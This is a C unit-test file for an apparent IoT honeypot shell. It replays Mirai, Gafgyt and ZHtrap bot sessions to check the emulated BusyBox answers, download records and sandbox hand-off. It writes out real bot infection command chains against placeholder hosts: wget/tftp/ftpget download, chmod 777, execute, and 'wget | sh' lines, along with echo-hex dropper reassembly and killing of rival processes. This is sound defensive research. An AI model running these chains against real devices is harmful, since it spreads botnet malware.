/* Unit tests of src/shell against the bots' dialogues of research/honeypots.md §4: the Mirai
 * scanner, the Mirai loader (echo, wget and tftp methods, with the loader's own decisions
 * replayed from the shell's answers), the Gafgyt scanner and infection line, ZHtrap's probes,
 * the dd/cat/read ELF probe, download failures, queued input, on the synthetic profile and on
 * every real profile of profiles/. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "harness.h"
#include "profile/profile.h"
#include "shell/shell.h"

static char *run(struct th *t, const char *fmt, ...) LIB_PRINTF(2, 3);
static char *run(struct th *t, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	char line[8192];
	vsnprintf(line, sizeof(line), fmt, ap);
	va_end(ap);
	th_line(t, line);
	return th_take(t);
}

static bool contains(const char *hay, const char *needle)
{
	return strstr(hay, needle) != NULL;
}

/* ------------------------------------------------------------------ Mirai */

static void test_mirai_scanner(void **state)
{
	struct th t;
	th_init(&t, NULL);
	free(th_take(&t));
	static const char *const lines[] = {"enable", "system", "shell", "sh"};
	for (size_t i = 0; i < LIB_ARRAY_LEN(lines); i++) {
		char *o = run(&t, "%s", lines[i]);
		size_t n = strlen(o);
		/* every answer ends in a prompt whose last byte is one the scanner accepts */
		assert_true(n >= 2 && o[n - 1] == ' ' && strchr(":>$#%", o[n - 2]));
		assert_false(contains(o, "ncorrect"));
		free(o);
	}
	char *o = run(&t, "/bin/busybox MIRAI");
	assert_string_equal(o, "MIRAI: applet not found\n# ");
	free(o);
	/* any token, through busybox by any path */
	o = run(&t, "busybox PEGOK; /bin/busybox BHERM");
	assert_string_equal(o, "PEGOK: applet not found\nBHERM: applet not found\n# ");
	free(o);
	th_fini(&t);
}

enum { M_ECHO, M_WGET, M_TFTP };

struct loader {
	char dir[64]; /* working folder chosen from the .nippon test */
	int machine;  /* e_machine read from `cat /bin/echo` */
	int data;     /* EI_DATA */
	bool armv7;
	int method;
	int killed;
};

/* The Mirai loader (loader/src/connection.c) against one shell: sends its lines and takes
 * its decisions from the answers, as the real loader does. */
static void mirai_loader(struct th *t, const uint8_t *bin, size_t len, int force_method,
			 struct loader *L)
{
	memset(L, 0, sizeof(*L));
	char *o;
	o = run(t, "enable");
	free(o);
	o = run(t, "shell");
	free(o);
	o = run(t, "sh");
	free(o);
	o = run(t, "/bin/busybox ECCHI");
	assert_true(contains(o, "ECCHI: applet not found"));
	free(o);
	/* ps: kill a second init and processes above 400 whose name is all digits */
	o = run(t, "/bin/busybox ps; /bin/busybox ECCHI");
	assert_true(contains(o, "ECCHI: applet not found"));
	assert_true(contains(o, "PID"));
	int to_kill[16], nk = 0;
	for (char *line = strtok(o, "\n"); line; line = strtok(NULL, "\n")) {
		int pid;
		char user[32], vsz[32], stat[16], cmd[256];
		if (sscanf(line, "%d %31s %31s %15s %255s", &pid, user, vsz, stat, cmd) != 5)
			continue;
		bool digits = cmd[0] != 0;
		for (char *c = cmd; *c; c++)
			digits &= *c >= '0' && *c <= '9';
		if ((pid > 1 && strcmp(cmd, "init") == 0) || (pid > 400 && digits))
			if (nk < 16)
				to_kill[nk++] = pid;
	}
	free(o);
	for (int i = 0; i < nk; i++) {
		o = run(t, "/bin/busybox kill -9 %d", to_kill[i]);
		free(o);
		L->killed++;
	}
	/* rw mounts, and /dev */
	o = run(t, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
	assert_true(contains(o, "ECCHI: applet not found"));
	char dirs[16][64];
	int nd = 0;
	for (char *line = strtok(o, "\n"); line; line = strtok(NULL, "\n")) {
		char dev[64], dir[64], type[32], opts[128];
		if (sscanf(line, "%63s %63s %31s %127s", dev, dir, type, opts) == 4 &&
		    strncmp(opts, "rw", 2) == 0 && nd < 15)
			snprintf(dirs[nd++], sizeof(dirs[0]), "%s", dir);
	}
	snprintf(dirs[nd++], sizeof(dirs[0]), "/dev");
	free(o);
	assert_true(nd > 1);
	for (int i = 0; i < nd && !L->dir[0]; i++) {
		o = run(t,
			"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69%s' > %s/.nippon; /bin/busybox "
			"cat %s/.nippon; /bin/busybox rm %s/.nippon",
			dirs[i], dirs[i], dirs[i], dirs[i]);
		char want[128];
		snprintf(want, sizeof(want), "kami%.100s", dirs[i]);
		if (contains(o, want) && strlen(dirs[i]) < 31)
			snprintf(L->dir, sizeof(L->dir), "%s", dirs[i]);
		free(o);
	}
	assert_true(L->dir[0] != 0);
	o = run(t, "cd %s/", L->dir);
	free(o);
	o = run(t, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 "
		   "dvrHelper; /bin/busybox ECCHI");
	assert_true(contains(o, "ECCHI: applet not found"));
	assert_false(contains(o, "can't"));
	free(o);
	/* the architecture from the ELF header */
	th_line(t, "/bin/busybox cat /bin/echo");
	size_t olen;
	o = th_take_len(t, &olen);
	char *elf = memmem(o, olen, "ELF", 3);
	assert_non_null(elf);
	assert_true(elf > o && (uint8_t)elf[-1] == 0x7f);
	char *hdr = elf - 1;
	L->data = hdr[5];
	L->machine = L->data == 2 ? ((uint8_t)hdr[18] << 8 | (uint8_t)hdr[19])
				  : ((uint8_t)hdr[19] << 8 | (uint8_t)hdr[18]);
	free(o);
	o = run(t, "/bin/busybox ECCHI");
	assert_true(contains(o, "ECCHI: applet not found"));
	free(o);
	if (L->machine == 40) {
		o = run(t, "cat /proc/cpuinfo; /bin/busybox ECCHI");
		L->armv7 = contains(o, "ARMv7");
		free(o);
	}
	/* the method */
	o = run(t, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
	L->method = contains(o, "wget: applet not found")
			    ? (contains(o, "tftp: applet not found") ? M_ECHO : M_TFTP)
			    : M_WGET;
	assert_true(contains(o, "Usage: wget"));
	free(o);
	if (force_method >= 0)
		L->method = force_method;
	if (L->method == M_WGET) {
		o = run(t, "/bin/busybox wget http://198.51.100.1:80/bins/mirai.arm7 -O - > "
			   "dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
		assert_string_equal(o, "");
		assert_true(shell_busy(t->sh));
		free(o);
		assert_int_equal(t->nfetches, 1);
		assert_string_equal(t->fetches[0].url, "http://198.51.100.1/bins/mirai.arm7");
		/* -O - into a redirection: the record names the file the bytes land in */
		char want[80];
		snprintf(want, sizeof(want), "%s/dvrHelper", L->dir);
		assert_string_equal(t->fetches[0].dest, want);
		th_complete(t, SHELL_FETCH_OK, 200, bin, len);
		o = th_take(t);
		/* the bytes went to the file only (cowrie#729) */
		assert_null(memmem(o, strlen(o), "ELF", 3));
		assert_true(contains(o, "ECCHI: applet not found"));
		assert_true(contains(o, "Connecting to 198.51.100.1 (203.0.113.7:80)"));
		free(o);
	} else if (L->method == M_TFTP) {
		o = run(t, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.1; "
			   "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
		free(o);
		assert_int_equal(t->nfetches, 1);
		assert_string_equal(t->fetches[0].url, "tftp://198.51.100.1/mirai.arm7");
		th_complete(t, SHELL_FETCH_OK, 0, bin, len);
		o = th_take(t);
		assert_false(contains(o, "timeout"));
		assert_true(contains(o, "ECCHI: applet not found"));
		free(o);
	} else {
		o = run(t, "/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; "
			   "/bin/busybox ECCHI");
		assert_true(contains(o, "ECCHI: applet not found"));
		free(o);
		for (size_t off = 0; off < len; off += 128) {
			char line[1024];
			size_t k = (size_t)snprintf(line, sizeof(line), "/bin/busybox echo -ne '");
			for (size_t i = off; i < len && i < off + 128; i++)
				k += (size_t)snprintf(line + k, sizeof(line) - k, "\\x%02x",
						      bin[i]);
			snprintf(line + k, sizeof(line) - k, "' %s upnp; /bin/busybox ECCHI",
				 off ? ">>" : ">");
			o = run(t, "%s", line);
			assert_true(strncmp(o, "ECCHI: applet not found\n", 24) == 0);
			free(o);
		}
		o = run(t, "./upnp; ./dvrHelper 1.arm7; /bin/busybox IHCCE");
		assert_true(contains(o, "IHCCE: applet not found"));
		free(o);
		o = run(t, "rm -rf upnp; > dvrHelper; /bin/busybox ECCHI");
		assert_true(contains(o, "ECCHI: applet not found"));
		free(o);
		return;
	}
	o = run(t, "./dvrHelper %d.%s; /bin/busybox IHCCE", 7, L->armv7 ? "arm7" : "arm");
	assert_true(contains(o, "IHCCE: applet not found"));
	free(o);
	o = run(t, "rm -rf upnp; > dvrHelper; /bin/busybox ECCHI");
	free(o);
}

static size_t uploads_with(struct th *t, const uint8_t *p, size_t n)
{
	size_t k = 0;
	for (size_t i = 0; i < t->nuploads; i++)
		if (t->uploads[i].len == n && memcmp(t->uploads[i].data, p, n) == 0)
			k++;
	return k;
}

static void test_mirai_loader_echo(void **state)
{
	struct th t;
	th_init(&t, NULL);
	free(th_take(&t));
	uint8_t *bin = th_fake_elf(1517, 40, 1);
	struct loader L;
	mirai_loader(&t, bin, 1517, M_ECHO, &L);
	assert_string_equal(L.dir, "/dev");
	assert_int_equal(L.machine, 40);
	assert_int_equal(L.data, 1);
	assert_true(L.armv7);
	assert_int_equal(L.killed, 1);
	/* the dropper was executed: handed to the sandbox with its bytes */
	assert_true(t.nexecs >= 1);
	assert_string_equal(t.execs[0], "/dev/upnp");
	char *o = run(&t, "ps");
	assert_false(contains(o, " 1270 "));
	assert_true(contains(o, "    1 root"));
	free(o);
	shell_free(t.sh);
	t.sh = NULL;
	/* exactly one report of the reassembled dropper, with its exact bytes */
	assert_int_equal(uploads_with(&t, bin, 1517), 1);
	char want[LIB_SHA256_HEX];
	lib_sha256_hex(bin, 1517, want);
	for (size_t i = 0; i < t.nuploads; i++)
		if (t.uploads[i].len == 1517) {
			char got[LIB_SHA256_HEX];
			lib_sha256_hex(t.uploads[i].data, t.uploads[i].len, got);
			assert_string_equal(got, want);
			assert_string_equal(t.uploads[i].path, "/dev/upnp");
			assert_string_equal(t.uploads[i].method, "echo");
		}
	/* nothing from the profile's own /bin/echo copy */
	const struct profile_node *bb = NULL;
	for (size_t i = 0; i < t.prof->nnodes; i++)
		if (strcmp(t.prof->nodes[i].path, "/bin/busybox") == 0)
			bb = &t.prof->nodes[i];
	assert_non_null(bb);
	assert_int_equal(uploads_with(&t, bb->data, bb->len), 0);
	free(bin);
	th_fini(&t);
}

static void test_mirai_loader_wget_tftp(void **state)
{
	uint8_t *bin = th_fake_elf(3000, 40, 1);
	for (int m = M_WGET; m <= M_TFTP; m++) {
		struct th t;
		th_init(&t, NULL);
		free(th_take(&t));
		struct loader L;
		mirai_loader(&t, bin, 3000, m, &L);
		/* the file holds the download; it was executed; it is not an upload */
		assert_int_equal(t.nexecs, 1);
		assert_string_equal(t.execs[0], "/dev/dvrHelper");
		shell_free(t.sh);
		t.sh = NULL;
		assert_int_equal(uploads_with(&t, bin, 3000), 0);
		th_fini(&t);
	}
	free(bin);
}

/* The loader on each real profile: every answer it needs, and the ELF of the device's CPU. */
static void test_mirai_loader_real_profiles(void **state)
{
	static const char *const names[] = {"dvr-hi3520d", "router-mt7620", "router-rtl8196c",
					    "stb-stx7111"};
	for (size_t i = 0; i < LIB_ARRAY_LEN(names); i++) {
		struct th t;
		th_init_real(&t, names[i]);
		free(th_take(&t));
		uint8_t *bin = th_fake_elf(1400, t.prof->elf.machine, t.prof->elf.data);
		struct loader L;
		mirai_loader(&t, bin, 1400, M_ECHO, &L);
		assert_int_equal(L.machine, t.prof->elf.machine);
		assert_int_equal(L.data, t.prof->elf.data);
		if (L.machine == 40)
			assert_true(L.armv7 == (strcmp(t.prof->cpu_arch, "arm7") == 0));
		shell_free(t.sh);
		t.sh = NULL;
		assert_int_equal(uploads_with(&t, bin, 1400), 1);
		free(bin);
		th_fini(&t);
	}
}

/* ------------------------------------------------------------------ Gafgyt */

static void test_gafgyt_scanner(void **state)
{
	struct th t;
	th_init(&t, NULL);
	free(th_take(&t));
	char *o = run(&t, "sh");
	free(o);
	o = run(&t, "/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'");
	assert_true(contains(o, "gayfgt"));
	assert_true(contains(o, "multi-call"));
	assert_true(contains(o, "BusyBox v1.22.1"));
	assert_true(contains(o, "Currently defined functions:\n\t[, [[, ash, awk, busybox, cat,"));
	free(o);
	th_fini(&t);
}

static const char bins_sh[] = "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "
			      "http://198.51.100.9/mips; chmod +x mips; ./mips; rm -rf mips\n"
			      "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "
			      "http://198.51.100.9/arm7; chmod +x arm7; ./arm7; rm -rf arm7\n"
			      "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "
			      "http://198.51.100.9/x86; chmod +x x86; ./x86; rm -rf x86\n";
static const char tftp1_sh[] = "cd /tmp; tftp -g -r t1 198.51.100.9; chmod 777 t1; ./t1\n";
static const char tftp2_sh[] =
	"#!/bin/sh\ncd /tmp\ntftp 198.51.100.9 -c get t2\nchmod 777 t2\n./t2 &\n";
static const char ftp1_sh[] = "cd /tmp; ftpget 198.51.100.9 f1 f1; chmod 777 f1; ./f1\n";

static void test_gafgyt_infection_line(void **state)
{
	struct th t;
	th_init(&t, NULL);
	free(th_take(&t));
	uint8_t *mips = th_fake_elf(900, 8, 2), *arm = th_fake_elf(900, 40, 1),
		*x86 = th_fake_elf(900, 3, 1);
	th_auto(&t, "/bins.sh", bins_sh, strlen(bins_sh));
	th_auto(&t, "/mips", mips, 900);
	th_auto(&t, "/arm7", arm, 900);
	th_auto(&t, "/x86", x86, 900);
	th_auto(&t, "/tftp1.sh", tftp1_sh, strlen(tftp1_sh));
	th_auto(&t, "/tftp2.sh", tftp2_sh, strlen(tftp2_sh));
	th_auto(&t, "/ftp1.sh", ftp1_sh, strlen(ftp1_sh));
	th_auto(&t, "/t1", arm, 900);
	th_auto(&t, "/t2", arm, 900);
	th_auto(&t, "/f1", arm, 900);
	th_line(&t, "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "
		    "http://198.51.100.9/bins.sh; chmod 777 bins.sh; "
		    "sh bins.sh; tftp 198.51.100.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh "
		    "tftp1.sh; tftp -r tftp2.sh -g 198.51.100.9; "
		    "chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 "
		    "198.51.100.9 ftp1.sh ftp1.sh; sh ftp1.sh; "
		    "rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *");
	/* a line typed while the downloads run is queued and runs afterwards */
	th_line(&t, "echo after");
	th_pump(&t);
	static const char *const want[] = {
		"wget http://198.51.100.9/bins.sh /tmp/bins.sh",
		"wget http://198.51.100.9/mips /tmp/mips",
		"wget http://198.51.100.9/arm7 /tmp/arm7",
		"wget http://198.51.100.9/x86 /tmp/x86",
		"tftp tftp://198.51.100.9/tftp1.sh /tmp/tftp1.sh",
		"tftp tftp://198.51.100.9/t1 /tmp/t1",
		"tftp tftp://198.51.100.9/tftp2.sh /tmp/tftp2.sh",
		"tftp tftp://198.51.100.9/t2 /tmp/t2",
		"ftpget ftp://anonymous:anonymous@198.51.100.9:21/ftp1.sh /tmp/ftp1.sh",
		"ftpget ftp://anonymous:busybox%40@198.51.100.9:21/f1 /tmp/f1",
	};
	assert_int_equal(t.nfetches, LIB_ARRAY_LEN(want));
	for (size_t i = 0; i < t.nfetches; i++) {
		char got[512];
		snprintf(got, sizeof(got), "%s %s %s", t.fetches[i].method, t.fetches[i].url,
			 t.fetches[i].dest);
		assert_string_equal(got, want[i]);
	}
	/* every binary was run (handed to the sandbox), all arches */
	assert_int_equal(t.nexecs, 6);
	assert_string_equal(t.execs[0], "/tmp/mips");
	assert_string_equal(t.execs[1], "/tmp/arm7");
	assert_string_equal(t.execs[2], "/tmp/x86");
	char *o = th_take(&t);
	assert_true(contains(o, "Connecting to 198.51.100.9"));
	assert_true(contains(o, "after\n# "));
	/* the foreign-arch binaries ran as ash runs a non-executable: as a script (no crash) */
	free(o);
	o = run(&t, "ls -a /tmp");
	assert_string_equal(o, ".   ..\n# ");
	free(o);
	free(mips);
	free(arm);
	free(x86);
	th_fini(&t);
}

/* ------------------------------------------------------------------ other bots' probes */

static void test_zhtrap(void **state)
{
	struct th t;
	th_init(&t, NULL);
	free(th_take(&t));
	static const char *const probes[] = {
		"enable", "linuxshell",          "system", "bash", "ls /home",
		"ps aux", "/bin/busybox ZONESEC"};
	static const char *const black[] = {
		"Jun22", "Jun23", "phil", "sshd:", "richard", "@LocalHost:]", "EmbyLinux"};
	struct buf all;
	buf_init(&all, 1 << 20);
	for (size_t i = 0; i < LIB_ARRAY_LEN(probes); i++) {
		char *o = run(&t, "%s", probes[i]);
		buf_append_str(&all, o);
		free(o);
	}
	const char *s = (const char *)all.data;
	for (size_t i = 0; i < LIB_ARRAY_LEN(black); i++)
		assert_null(strstr(s, black[i]));
	assert_true(contains(s, "-sh: enable: not found"));
	assert_true(contains(s, "-sh: linuxshell: not found"));
	assert_true(contains(s, "-sh: bash: not found"));
	assert_true(contains(s, "ls: /home: No such file or directory"));
	assert_true(contains(s, "  PID USER       VSZ STAT COMMAND"));
	assert_true(contains(s, "ZONESEC: applet not found"));
	buf_free(&all);
	th_fini(&t);
}

/* The profile's canned [commands] answer vendor CLIs (sorted by name, as the loader keeps them). */
static void test_canned_commands(void **state)
{
	struct profile *p = th_profile(NULL);
	p->commands = xcalloc(2, sizeof(*p->commands));
	p->commands[0].name = xstrdup("enable");
	p->commands[0].output = xstrdup("");
	p->commands[1].name = xstrdup("shell");
	p->commands[1].output = xstrdup("Entering shell mode\n");
	p->commands[1].status = 0;
	p->ncommands = 2;
	struct th t;
	th_init_with(&t, p, false, false, NULL);
	free(th_take(&t));
	char *o = run(&t, "enable; echo $?");
	assert_string_equal(o, "0\n# ");
	free(o);
	o = run(&t, "shell");
	assert_string_equal(o, "Entering shell mode\n# ");
	free(o);
	o = run(&t, "system");
	assert_string_equal(o, "-sh: system: not found\n# ");
	free(o);
	th_fini(&t);
}

static void test_dd_probe(void **state)
{
	struct th t;
	th_init(&t, NULL);
	free(th_take(&t));
	free(run(&t, "cd /tmp; cp /bin/echo .s"));
	th_line(&t, "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s");
	size_t olen;
	char *o = th_take_len(&t, &olen);
	assert_true(olen > 52 + 54);
	const struct profile_node *bb = NULL;
	for (size_t i = 0; i < t.prof->nnodes; i++)
		if (strcmp(t.prof->nodes[i].path, "/bin/busybox") == 0)
			bb = &t.prof->nodes[i];
	assert_memory_equal(o, bb->data, 52);
	assert_true(strncmp(o + 52, "1+0 records in\n1+0 records out\n52 bytes (52B) copied, ",
			    54) == 0);
	free(o);
	/* dd onto a file, with skip and seek */
	o = run(&t,
		"printf 0123456789 > d; dd if=d of=e bs=2 skip=1 count=2 2>/dev/null; cat e; echo");
	assert_string_equal(o, "2345\n# ");
	free(o);
	th_line(&t, "dd if=d of=e bs=1 seek=6 conv=notrunc 2>/dev/null; cat e");
	o = th_take_len(&t, &olen);
	assert_int_equal(olen, 16 + 2);
	assert_memory_equal(o,
			    "2345\0\0"
			    "0123456789# ",
			    18);
	free(o);
	o = run(&t, "dd if=d of=e bs=4 count=1; cat e");
	assert_string_equal(o, "1+0 records in\n1+0 records out\n4 bytes (4B) copied, 0.000041 "
			       "seconds, 95.1KB/s\n0123# ");
	free(o);
	th_fini(&t);
}

/* ------------------------------------------------------------------ downloads */

static void test_fetch_failures(void **state)
{
	struct th t;
	th_init(&t, NULL);
	free(th_take(&t));
	free(run(&t, "cd /tmp"));
	struct {
		int status, code;
		const char *cmd, *want;
	} cases[] = {
		{SHELL_FETCH_BAD_ADDRESS, 0, "wget http://bad.example/x",
		 "wget: bad address 'bad.example'\n"},
		{SHELL_FETCH_REFUSED, 0, "wget http://198.51.100.3/x",
		 "Connecting to 198.51.100.3 (203.0.113.7:80)\nwget: can't connect to remote host "
		 "(203.0.113.7): Connection refused\n"},
		{SHELL_FETCH_TIMEOUT, 0, "wget -q http://198.51.100.3/x",
		 "wget: download timed out\n"},
		{SHELL_FETCH_SERVER_ERROR, 404, "wget http://198.51.100.3/x",
		 "Connecting to 198.51.100.3 (203.0.113.7:80)\nwget: server returned error: "
		 "HTTP/1.1 404 Not Found\n"},
		{SHELL_FETCH_TIMEOUT, 0, "tftp -g -r x 198.51.100.3", "tftp: timeout\n"},
		{SHELL_FETCH_SERVER_ERROR, 1, "tftp -g -r x 198.51.100.3",
		 "tftp: server error: (1) File not found\n"},
		{SHELL_FETCH_REFUSED, 0, "ftpget 198.51.100.3 l r",
		 "ftpget: can't connect to remote host (203.0.113.7): Connection refused\n"},
		{SHELL_FETCH_SERVER_ERROR, 550, "ftpget 198.51.100.3 l r",
		 "ftpget: unexpected server response to RETR: 550 Failed to open file.\n"},
	};
	for (size_t i = 0; i < LIB_ARRAY_LEN(cases); i++) {
		free(run(&t, "%s", cases[i].cmd));
		assert_true(shell_busy(t.sh));
		th_complete(&t, cases[i].status, cases[i].code, NULL, 0);
		assert_false(shell_busy(t.sh));
		char *o = th_take(&t);
		char want[512];
		snprintf(want, sizeof(want), "%s# ", cases[i].want);
		if (strcmp(o, want))
			fail_msg("%s: got [%s] want [%s]", cases[i].cmd, o, want);
		free(o);
		char *st = run(&t, "echo $?");
		assert_string_equal(st, "1\n# ");
		free(st);
	}
	/* tftp leaves the (emptied) local file behind, wget does not create one */
	char *o = run(&t, "ls");
	assert_string_equal(o, "x\n# ");
	free(o);
	/* success: BusyBox's lines, the file, and wget refuses to overwrite without -O */
	free(run(&t, "wget http://198.51.100.3/dir/file.bin"));
	th_complete(&t, SHELL_FETCH_OK, 200, "hello", 5);
	o = th_take(&t);
	assert_string_equal(o, "Connecting to 198.51.100.3 (203.0.113.7:80)\n"
			       "\rfile.bin             100% |*******************************|     "
			       "5   0:00:00 ETA\n# ");
	free(o);
	free(run(&t, "wget http://198.51.100.3/dir/file.bin"));
	th_complete(&t, SHELL_FETCH_OK, 200, "again", 5);
	o = th_take(&t);
	assert_true(contains(o, "wget: can't open 'file.bin': File exists\n"));
	free(o);
	o = run(&t, "cat file.bin; wget -q -O idx http://198.51.100.3/; echo $?");
	assert_string_equal(o, "hello");
	free(o);
	th_complete(&t, SHELL_FETCH_OK, 200, "<html>", 6);
	o = th_take(&t);
	assert_string_equal(o, "0\n# ");
	free(o);
	o = run(&t, "cat idx");
	assert_string_equal(o, "<html># ");
	free(o);
	/* curl: stdout by default, -o file, -O remote name, errors */
	free(run(&t, "curl -s http://198.51.100.3/c.sh | sh"));
	th_complete(&t, SHELL_FETCH_OK, 200, "echo from-curl\n", 15);
	o = th_take(&t);
	assert_string_equal(o, "from-curl\n# ");
	free(o);
	free(run(&t, "curl http://nx.example/"));
	th_complete(&t, SHELL_FETCH_BAD_ADDRESS, 0, NULL, 0);
	o = th_take(&t);
	assert_string_equal(o, "curl: (6) Could not resolve host: nx.example\n# ");
	free(o);
	/* wget -O - into a pipe: the script runs */
	free(run(&t, "wget -qO- http://198.51.100.3/s.sh | sh; echo st=$?"));
	th_complete(&t, SHELL_FETCH_OK, 200, "echo piped-script\nexit 4\n", 25);
	o = th_take(&t);
	assert_string_equal(o, "piped-script\nst=4\n# ");
	free(o);
	/* newer BusyBox: saving/saved lines */
	th_fini(&t);
	th_init(&t, "1.31.1");
	free(th_take(&t));
	free(run(&t, "cd /tmp; wget http://198.51.100.3/a.sh"));
	th_complete(&t, SHELL_FETCH_OK, 200, "abc", 3);
	o = th_take(&t);
	assert_string_equal(o, "Connecting to 198.51.100.3 (203.0.113.7:80)\nsaving to 'a.sh'\n"
			       "\ra.sh                 100% |********************************|     "
			       "3  0:00:00 ETA\n'a.sh' saved\n# ");
	free(o);
	th_fini(&t);
}

/* Without a network (no io->fetch), the device says what a device without connectivity says. */
static void test_no_network(void **state)
{
	struct th t;
	th_init_with(&t, th_profile(NULL), false, true, NULL);
	free(th_take(&t));
	char *o = run(&t, "cd /tmp; wget http://198.51.100.3/x; wget http://host.example/y; tftp "
			  "-g -r z 198.51.100.3; echo $?");
	assert_string_equal(
		o, "Connecting to 198.51.100.3 (198.51.100.3:80)\n"
		   "wget: can't connect to remote host (198.51.100.3): Network is unreachable\n"
		   "wget: bad address 'host.example'\ntftp: timeout\n1\n# ");
	free(o);
	th_fini(&t);
}

static void test_queue(void **state)
{
	struct th t;
	struct shell_limits lim = {.vfs_bytes = 1 << 20,
				   .vfs_files = 64,
				   .max_commands = 1000,
				   .script_depth = 4,
				   .max_queued = 64};
	th_init_limits(&t, NULL, &lim);
	free(th_take(&t));
	th_line(&t, "wget -q -O /tmp/q http://198.51.100.3/q; echo first");
	assert_true(shell_busy(t.sh));
	assert_int_equal(th_line(&t, "echo second"), 0);
	assert_int_equal(th_line(&t, "cat /tmp/q"), 0);
	char *o = th_take(&t);
	assert_string_equal(o, "");
	free(o);
	/* the queue is bounded */
	assert_int_equal(
		th_line(&t,
			"echo this line is far too long to fit in the little queue of 64 bytes"),
		-ENOBUFS);
	th_complete(&t, SHELL_FETCH_OK, 200, "qdata\n", 6);
	o = th_take(&t);
	assert_string_equal(o, "first\n# second\n# qdata\n# ");
	free(o);
	th_fini(&t);
}

static void test_exit_and_nesting(void **state)
{
	struct th t;
	th_init(&t, NULL);
	free(th_take(&t));
	char *o = run(&t, "sh");
	assert_string_equal(o, "# ");
	free(o);
	o = run(&t, "nosuch");
	assert_string_equal(o, "sh: nosuch: not found\n# ");
	free(o);
	o = run(&t, "cd /tmp; exit");
	assert_string_equal(o, "# ");
	free(o);
	o = run(&t, "pwd; nosuch");
	assert_string_equal(o, "/root\n-sh: nosuch: not found\n# ");
	free(o);
	assert_null(t.closed);
	shell_eof(t.sh);
	assert_non_null(t.closed);
	th_fini(&t);
	/* exit at the top level closes; kill of the login shell too */
	th_init(&t, NULL);
	th_line(&t, "exit 3");
	assert_string_equal(t.closed, "exit");
	th_fini(&t);
	th_init(&t, NULL);
	th_line(&t, "kill -9 $$");
	assert_string_equal(t.closed, "killed");
	th_fini(&t);
	th_init(&t, NULL);
	free(th_take(&t));
	o = run(&t, "kill -9 1; kill -9 99999; echo $?");
	assert_string_equal(o, "-sh: kill: can't kill pid 99999: No such process\n1\n# ");
	free(o);
	th_fini(&t);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_mirai_scanner),
		cmocka_unit_test(test_mirai_loader_echo),
		cmocka_unit_test(test_mirai_loader_wget_tftp),
		cmocka_unit_test(test_mirai_loader_real_profiles),
		cmocka_unit_test(test_gafgyt_scanner),
		cmocka_unit_test(test_gafgyt_infection_line),
		cmocka_unit_test(test_zhtrap),
		cmocka_unit_test(test_canned_commands),
		cmocka_unit_test(test_dd_probe),
		cmocka_unit_test(test_fetch_failures),
		cmocka_unit_test(test_no_network),
		cmocka_unit_test(test_queue),
		cmocka_unit_test(test_exit_and_nesting),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
